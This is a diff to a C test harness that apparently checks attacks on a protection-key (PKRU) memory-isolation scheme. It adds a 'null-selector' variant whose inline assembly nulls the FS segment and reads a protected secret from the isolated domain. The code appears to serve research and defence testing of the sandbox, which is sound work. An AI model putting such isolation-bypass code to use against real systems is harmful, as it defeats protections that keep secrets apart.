@@ -6,6 +6,9 @@
  * signal handler, where PKRU says nothing about who was interrupted, the fault
  * handler has nothing else to go by. (Undefended, nobody asks: the key is closed there.)
  *
+ * null-selector: no system call and no special instruction; the FS base becomes 0, which
+ * no thread has, and then the domain is touched. (Undefended, the key is closed all the same.)
+ *
  * Source: [PKU Pitfalls], arch_prctl(2), modify_ldt(2), [SDM 2 WRFSBASE].
  */
 #include <asm/ldt.h>
@@ -132,10 +135,22 @@ static void as_host_thread(void) {
     TRY("raise", raise(SIGUSR1) ? -1 : 0);
 }
 
+/* Nothing that needs thread-local storage may run until the thread pointer is back. */
+static void null_selector(void) {
+    uintptr_t own = fs_base(), word;
+    __asm__ volatile("mov %[null], %%fs\n\tmovq (%[secret]), %[word]"
+                     : [word] "=&r"(word)
+                     : [null] "r"(0), [secret] "r"(target.secret)
+                     : "memory");
+    attack_hand_in(&word, sizeof word);
+    if (set_fs(own)) __asm__ volatile("syscall" : : "a"(SYS_exit_group), "D"(0) : "rcx", "r11", "memory");
+}
+
 const struct attack attacks[] = {
     {.variant = "wrfsbase", .prepare = map_code, .attack = wrfsbase, .again = read_if_bent},
     {.variant = "arch-prctl", .attack = by_arch_prctl, .again = read_if_bent},
     {.variant = "modify-ldt", .attack = by_modify_ldt, .again = read_if_bent},
     {.variant = "as-host-thread", .while_open = make_host_thread, .attack = as_host_thread, .flags = ATTACK_CONTROL},
+    {.variant = "null-selector", .attack = null_selector, .flags = ATTACK_CONTROL},
     {0},
 };
